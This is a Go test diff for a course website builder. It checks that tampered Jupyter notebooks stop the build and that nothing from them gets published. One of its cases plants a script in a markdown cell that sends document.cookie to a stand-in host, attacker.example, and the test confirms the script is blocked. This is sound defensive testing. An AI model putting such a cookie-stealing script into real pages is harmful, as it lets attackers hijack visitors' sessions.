@@ -151,7 +151,9 @@ func TestSiteBuild(t *testing.T) {
 	expectFailure("notebook without an executed copy", "no executed copy")
 	write(t, filepath.Join(src, "02-broken.ipynb"), []byte(`{"cells": [`))
 	expectFailure("unreadable notebook", "02-broken.ipynb")
-	write(t, filepath.Join(src, "02-broken.ipynb"), []byte(strings.Replace(string(notebook("bad TeX")), `$x = 0$`, `$\\frac{1$`, 1)))
+	badTeX := []byte(strings.Replace(string(notebook("bad TeX")), `$x = 0$`, `$\\frac{1$`, 1))
+	write(t, filepath.Join(sources, "02-broken.ipynb"), badTeX)
+	write(t, filepath.Join(src, "02-broken.ipynb"), badTeX)
 	expectFailure("formula KaTeX rejects", `02-broken.html: $\frac{1$`)
 }
 
@@ -408,4 +410,65 @@ func joined(src any) string {
 	}
 	s, _ := src.(string)
 	return s
+}
+
+// TestSiteRendersOnlyTheInstructorsNotebooks: the site keeps a markdown
+// cell's raw HTML and scripts, so it renders only executions of the course's
+// own notebooks. An executed copy whose text is not its source's — a
+// student's submission copied into build/notebooks, a script added to a
+// markdown cell, a cell added or retyped — stops the build, naming the file,
+// and publishes nothing of it (issue 28, item 7).
+func TestSiteRendersOnlyTheInstructorsNotebooks(t *testing.T) {
+	t.Parallel()
+	py := python(t)
+	sources, src, dst := course(t, "00-first")
+	var nb map[string]any
+	if err := json.Unmarshal(notebook("Notebook 00-first"), &nb); err != nil {
+		t.Fatal(err)
+	}
+	cells := nb["cells"].([]any)
+	markdown, code := cells[0].(map[string]any), cells[1].(map[string]any)
+	with := func(cells ...any) []byte {
+		c := map[string]any{}
+		for k, v := range nb {
+			c[k] = v
+		}
+		c["cells"] = cells
+		b, _ := json.Marshal(c)
+		return b
+	}
+	clone := func(cell map[string]any, key string, value any) map[string]any {
+		c := map[string]any{}
+		for k, v := range cell {
+			c[k] = v
+		}
+		c[key] = value
+		return c
+	}
+	const script = `<script>fetch("https://attacker.example/?" + document.cookie)</script>`
+	for _, c := range []struct {
+		name  string
+		nb    []byte
+		where string
+	}{
+		{"a script in a markdown cell", with(clone(markdown, "source", markdown["source"].(string)+script), code), "cell 0 (markdown) has other text than the course's"},
+		{"a student's answer in a code cell", with(markdown, clone(code, "source", "%%\nfmt.Println(42)")), "cell 1 (code) has other text than the course's"},
+		{"a cell added", with(markdown, code, clone(markdown, "source", script)), "it has 3 cells, the course's 2"},
+		{"a code cell turned markdown", with(markdown, clone(clone(code, "cell_type", "markdown"), "outputs", nil)), "cell 1 is a markdown cell, the course's a code cell"},
+	} {
+		write(t, filepath.Join(src, "00-first.ipynb"), c.nb)
+		out, err := buildSite(t, py, sources, src, dst)
+		if err == nil {
+			t.Errorf("%s: the site was built", c.name)
+			continue
+		}
+		for _, want := range []string{"00-first.ipynb is not an execution of", c.where, "Trust"} {
+			if !strings.Contains(out, want) {
+				t.Errorf("%s: output does not say %q:\n%s", c.name, want, out)
+			}
+		}
+		if page, err := os.ReadFile(filepath.Join(dst, "00-first.html")); err == nil && strings.Contains(string(page), "attacker.example") {
+			t.Errorf("%s: the script was published", c.name)
+		}
+	}
 }
